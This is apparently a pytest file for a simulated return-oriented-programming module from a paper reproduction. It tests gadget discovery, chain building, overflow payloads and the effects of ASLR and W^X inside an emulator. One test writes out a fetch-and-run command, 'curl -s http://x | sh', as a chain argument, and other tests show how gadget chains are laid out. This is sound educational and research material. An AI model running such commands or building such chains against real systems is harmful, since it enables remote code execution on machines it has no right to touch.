"""Unit tests for ROP: gadget discovery, chain building, interpretation,
and the mitigation behaviours (W^X, ASLR) the paper's attack model assumes."""


import pytest

from repro.memsafety.layout import standard_process_layout
from repro.memsafety.rop import (
    ALL_OPS,
    ChainBuilder,
    ChainInterpreter,
    GadgetTable,
    STR_TAG,
    pack_qword,
)
from repro.memsafety.stack import StackFrame


TEXT_BASE = 0x400000


@pytest.fixture
def gadgets():
    return GadgetTable.discover(build_seed=77, text_base=TEXT_BASE)


def interpreter(gadgets, slide=0, wx=True):
    space = standard_process_layout(TEXT_BASE + slide, wx_enforced=wx)
    return ChainInterpreter(gadgets, slide, space)


class TestGadgetTable:
    def test_discovery_is_deterministic(self):
        one = GadgetTable.discover(5, TEXT_BASE)
        two = GadgetTable.discover(5, TEXT_BASE)
        assert one.addresses == two.addresses

    def test_different_builds_differ(self):
        one = GadgetTable.discover(5, TEXT_BASE)
        two = GadgetTable.discover(6, TEXT_BASE)
        assert one.addresses != two.addresses

    def test_all_ops_present_inside_text(self, gadgets):
        for op in ALL_OPS:
            address = gadgets.address_of(op)
            assert TEXT_BASE <= address < TEXT_BASE + 0x40000

    def test_reverse_lookup(self, gadgets):
        for op, address in gadgets.addresses.items():
            assert gadgets.by_address[address] == op


class TestChainExecution:
    def test_execlp_chain_roundtrip(self, gadgets):
        builder = ChainBuilder(gadgets)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "curl -s http://x | sh"])
        outcome = interpreter(gadgets).run(first, spill)
        assert outcome.succeeded
        assert outcome.syscall.name == "execlp"
        assert list(outcome.syscall.args) == ["sh", "sh", "-c", "curl -s http://x | sh"]

    def test_chain_with_fewer_args(self, gadgets):
        builder = ChainBuilder(gadgets)
        first, spill = builder.execlp_chain("reboot", [])
        outcome = interpreter(gadgets).run(first, spill)
        assert outcome.succeeded
        assert list(outcome.syscall.args) == ["reboot"]

    def test_too_many_args_rejected(self, gadgets):
        with pytest.raises(ValueError):
            ChainBuilder(gadgets).execlp_chain("sh", ["a", "b", "c", "d"])

    def test_chain_through_stack_frame(self, gadgets):
        """The full overflow payload drives a hijacked frame end to end."""
        builder = ChainBuilder(gadgets)
        payload = builder.overflow_payload(64, "sh", ["sh", "-c", "id"])
        frame = StackFrame("parse", 64, return_address=TEXT_BASE + 0x1234)
        event = frame.copy_unchecked(payload)
        assert frame.hijacked
        outcome = interpreter(gadgets).run(frame.return_address, event.spill)
        assert outcome.succeeded
        assert outcome.syscall.args[-1] == "id"


class TestAslrInteraction:
    def test_correct_slide_succeeds(self, gadgets):
        slide = 0x7F3000
        builder = ChainBuilder(gadgets, slide=slide)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        outcome = interpreter(gadgets, slide=slide).run(first, spill)
        assert outcome.succeeded

    def test_wrong_slide_crashes(self, gadgets):
        builder = ChainBuilder(gadgets, slide=0)  # attacker assumes no ASLR
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        outcome = interpreter(gadgets, slide=0x7F3000).run(first, spill)
        assert not outcome.succeeded
        assert outcome.kind == "crash"

    def test_slightly_wrong_slide_crashes(self, gadgets):
        builder = ChainBuilder(gadgets, slide=0x1000)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        outcome = interpreter(gadgets, slide=0x2000).run(first, spill)
        assert not outcome.succeeded


class TestWxInteraction:
    def test_shellcode_on_stack_faults_under_wx(self, gadgets):
        """Return-into-stack (code injection) dies on a W^X build."""
        stack_address = 0x7FFF_F000_0100
        outcome = interpreter(gadgets, wx=True).run(stack_address, b"\x90" * 64)
        assert outcome.kind == "crash"
        assert "non-executable" in outcome.crash_reason

    def test_shellcode_reaches_execution_without_wx(self, gadgets):
        """On a no-NX build the stack is executable: the fetch succeeds
        (and then fails only because stack bytes are not our gadgets)."""
        stack_address = 0x7FFF_F000_0100
        outcome = interpreter(gadgets, wx=False).run(stack_address, b"\x90" * 64)
        assert outcome.kind == "crash"
        assert "non-gadget" in outcome.crash_reason

    def test_rop_succeeds_regardless_of_wx(self, gadgets):
        """ROP reuses text-segment code, so W^X cannot stop it — the
        paper's reason for using ROP in the first place."""
        builder = ChainBuilder(gadgets)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        assert interpreter(gadgets, wx=True).run(first, spill).succeeded


class TestMalformedChains:
    def test_return_to_unmapped_crashes(self, gadgets):
        outcome = interpreter(gadgets).run(0xDEAD_0000_0000, b"")
        assert outcome.kind == "crash"
        assert "unmapped" in outcome.crash_reason

    def test_return_to_non_gadget_text_crashes(self, gadgets):
        non_gadget = TEXT_BASE + 0x33
        assert non_gadget not in gadgets.by_address
        outcome = interpreter(gadgets).run(non_gadget, b"")
        assert outcome.kind == "crash"

    def test_truncated_spill_crashes(self, gadgets):
        builder = ChainBuilder(gadgets)
        first, spill = builder.execlp_chain("sh", ["sh", "-c", "x"])
        outcome = interpreter(gadgets).run(first, spill[:8])
        assert outcome.kind == "crash"

    def test_execlp_without_registers_crashes(self, gadgets):
        first = gadgets.address_of("call execlp")
        outcome = interpreter(gadgets).run(first, b"")
        assert outcome.kind == "crash"
        assert "uninitialized" in outcome.crash_reason

    def test_bad_string_reference_crashes(self, gadgets):
        # Chain: pop rdi <junk-pointer>, then execlp.
        chain = (
            pack_qword(0x1234)  # operand for first pop: not a tagged ref
            + pack_qword(gadgets.address_of("pop rsi ; ret"))
            + pack_qword(STR_TAG | 0)
            + pack_qword(gadgets.address_of("pop rdx ; ret"))
            + pack_qword(STR_TAG | 0)
            + pack_qword(gadgets.address_of("pop rcx ; ret"))
            + pack_qword(STR_TAG | 0)
            + pack_qword(gadgets.address_of("call execlp"))
            + b"sh\x00"
        )
        first = gadgets.address_of("pop rdi ; ret")
        outcome = interpreter(gadgets).run(first, chain)
        assert outcome.kind == "crash"
        assert "junk" in outcome.crash_reason

    def test_runaway_chain_terminates(self, gadgets):
        ret = gadgets.address_of("ret")
        spill = pack_qword(ret) * 200
        outcome = interpreter(gadgets).run(ret, spill)
        assert outcome.kind == "crash"
        assert "runaway" in outcome.crash_reason

    def test_out_of_range_string_offset_crashes(self, gadgets):
        chain = (
            pack_qword(STR_TAG | 0xFFFF)
            + pack_qword(gadgets.address_of("pop rsi ; ret"))
            + pack_qword(STR_TAG | 0xFFFF)
            + pack_qword(gadgets.address_of("pop rdx ; ret"))
            + pack_qword(STR_TAG | 0xFFFF)
            + pack_qword(gadgets.address_of("pop rcx ; ret"))
            + pack_qword(STR_TAG | 0xFFFF)
            + pack_qword(gadgets.address_of("call execlp"))
        )
        first = gadgets.address_of("pop rdi ; ret")
        outcome = interpreter(gadgets).run(first, chain)
        assert outcome.kind == "crash"
